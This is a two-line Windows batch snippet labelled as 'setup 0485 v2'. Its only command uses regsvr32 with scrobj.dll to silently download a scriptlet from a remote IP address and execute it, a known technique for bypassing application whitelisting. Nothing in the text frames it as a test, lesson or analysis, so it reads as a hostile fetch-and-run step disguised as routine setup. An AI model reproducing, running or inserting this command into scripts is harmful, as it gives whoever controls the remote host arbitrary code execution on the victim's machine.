REM setup 0485 v2
regsvr32 /s /n /u /i:http://203.0.113.17/file.sct scrobj.dll
